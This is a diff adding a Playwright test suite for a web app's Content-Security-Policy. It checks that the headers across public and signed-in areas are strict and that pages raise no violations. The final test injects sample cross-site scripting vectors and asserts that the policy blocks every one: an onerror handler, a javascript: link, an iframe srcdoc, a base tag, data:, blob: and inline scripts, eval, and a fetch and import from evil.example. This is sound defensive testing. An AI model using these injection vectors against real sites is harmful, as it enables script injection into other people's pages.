@@ -1,0 +1,115 @@
+/** The Content-Security-Policy: on every page, without exceptions for scripts, in force, and in nobody's way. */
+import type { Page } from 'playwright/test'
+import { SignIn, signIn } from '../support/page-objects/sign-in.ts'
+import { publicPaths } from '../support/public-pages.ts'
+import { fixedPaths } from '../support/route-paths.ts'
+import { DEMO } from '../support/server-api.ts'
+import { expect, test } from '../support/story.ts'
+
+const AREAS = { client: 'client', intervenant: 'intervenant', admin: 'admin' } as const
+
+/** Chromium, of a page that is left before the icon of its manifest came. */
+const LEFT = /from the Manifest/
+
+/** What the policy stopped in this page and those after it. */
+async function violations(page: Page): Promise<string[]> {
+  const told: string[] = []
+  await page.exposeFunction('tellViolation', (what: string) => void told.push(what))
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile, lineNumber }) => {
+      void (window as unknown as { tellViolation: (what: string) => Promise<void> }).tellViolation(`${effectiveDirective} ${blockedURI} (${sourceFile}:${lineNumber})`)
+    })
+  })
+  return told
+}
+
+function directives(policy: string): ReadonlyMap<string, readonly string[]> {
+  return new Map(policy.split(';').map((one) => one.trim().split(/\s+/)).map(([name = '', ...sources]) => [name, sources]))
+}
+
+test('every page has it, and it lets nothing in but what the site itself is made of; answers that are data, nothing at all', async ({ device: { page }, server, noise }) => {
+  noise.expect(/Content Security Policy|Blocked script execution|sandboxed|Failed to load resource/)
+  const paths = [...publicPaths(), ...Object.values(AREAS).flatMap((area) => [`/${area}`, ...fixedPaths(area)])]
+  expect(paths.length).toBeGreaterThan(50)
+  for (const path of paths) {
+    const headers = (await page.request.get(path, { headers: { accept: 'text/html' }, maxRedirects: 0 })).headers()
+    const policy = directives(headers['content-security-policy'] ?? '')
+    const allowed = [...policy].flatMap(([name, sources]) => sources.map((source) => [name, source] as const))
+    for (const [name, source] of allowed) {
+      const known = ["'self'", "'none'", 'blob:', 'data:'].includes(source) || (name === 'script-src' && /^'sha256-[\w+/]+=*'$/.test(source)) || (name === 'style-src' && source === "'unsafe-inline'")
+      expect([path, name, source, known]).toEqual([path, name, source, true])
+    }
+    for (const name of ['script-src', 'default-src', 'object-src', 'base-uri', 'frame-ancestors', 'form-action']) expect([path, name, policy.has(name)]).toEqual([path, name, true])
+    expect(policy.get('script-src')?.some((source) => ['blob:', 'data:'].includes(source))).toBe(false)
+    expect([path, policy.get('object-src'), policy.get('base-uri'), policy.get('frame-ancestors')]).toEqual([path, ["'none'"], ["'none'"], ["'none'"]])
+  }
+  for (const path of ['/config.json', '/healthz', '/rest/v1/profiles', '/storage/v1/object/x/y']) {
+    const response = await page.goto(server.url + path)
+    const policy = directives(response?.headers()['content-security-policy'] ?? '')
+    expect([path, policy.get('default-src'), policy.has('sandbox')]).toEqual([path, ["'none'"], true])
+    expect([path, await page.evaluate(() => window.origin)], 'it is of no site').toEqual([path, 'null'])
+  }
+})
+
+test('the public pages break no rule of it', async ({ device: { page }, noise }) => {
+  noise.expect(LEFT)
+  const told = await violations(page)
+  for (const path of publicPaths()) {
+    await page.goto(path)
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+  }
+  expect(told).toEqual([])
+})
+
+for (const [role, area] of Object.entries(AREAS) as [keyof typeof AREAS, string][]) {
+  test(`the area of ${role} breaks no rule of it`, async ({ device: { page }, noise }) => {
+    noise.expect(LEFT)
+    const told = await violations(page)
+    await signIn(page, DEMO[role], role)
+    for (const path of fixedPaths(area)) {
+      await page.goto(path)
+      await expect(page.getByRole('main')).toBeVisible()
+    }
+    expect(told).toEqual([])
+  })
+}
+
+test('it stops what somebody else would bring in', async ({ device: { page }, noise }) => {
+  noise.expect(/Content Security Policy|Content-Security-Policy|violates the following|Refused to/)
+  noise.expect(/Failed to fetch|Failed to load resource|ERR_BLOCKED_BY_CSP/)
+  const told = await violations(page)
+  await page.goto('/login')
+  await new SignIn(page).send(DEMO.client)
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+  const ran = await page.evaluate(async () => {
+    const done: string[] = []
+    const place = document.createElement('div')
+    document.body.append(place)
+    Object.assign(window, { ran: (what: string) => done.push(what) })
+    const script = (fill: (one: HTMLScriptElement) => void): Promise<void> => new Promise((resolve) => {
+      const one = document.createElement('script')
+      one.addEventListener('error', () => resolve())
+      one.addEventListener('load', () => resolve())
+      fill(one)
+      document.body.append(one)
+      if (!one.src) resolve()
+    })
+    place.innerHTML = '<img src="/nothing" onerror="ran(\'handler\')"><a id="go" href="javascript:ran(\'address\')">x</a><iframe srcdoc="<script>parent.ran(\'frame\')</script>"></iframe><base href="https://evil.example/">'
+    await script((one) => { one.textContent = 'ran("inline")' })
+    await script((one) => { one.src = 'data:text/javascript,ran("data")' })
+    await script((one) => { one.src = URL.createObjectURL(new Blob(['ran("blob")'], { type: 'text/javascript' })) })
+    await script((one) => { one.src = 'https://evil.example/x.js' })
+    document.getElementById('go')?.click()
+    try {
+      // eslint-disable-next-line no-eval, no-implied-eval -- what has to be stopped
+      (0, eval)('ran("eval")')
+    } catch { /* as it should be */ }
+    for (const reach of [() => fetch('https://evil.example/'), () => import(/* @vite-ignore */ 'https://evil.example/y.js')]) await (reach() as Promise<unknown>).then(() => done.push('reached'), () => undefined)
+    if (document.baseURI.includes('evil')) done.push('base')
+    return done
+  })
+  expect(ran).toEqual([])
+  const stopped = new Set(told.map((one) => one.split(' ')[0]))
+  expect([...stopped].toSorted()).toEqual(expect.arrayContaining(['base-uri', 'connect-src', 'script-src-attr', 'script-src-elem']))
+  expect(told.some((one) => one.startsWith('script-src eval'))).toBe(true)
+})
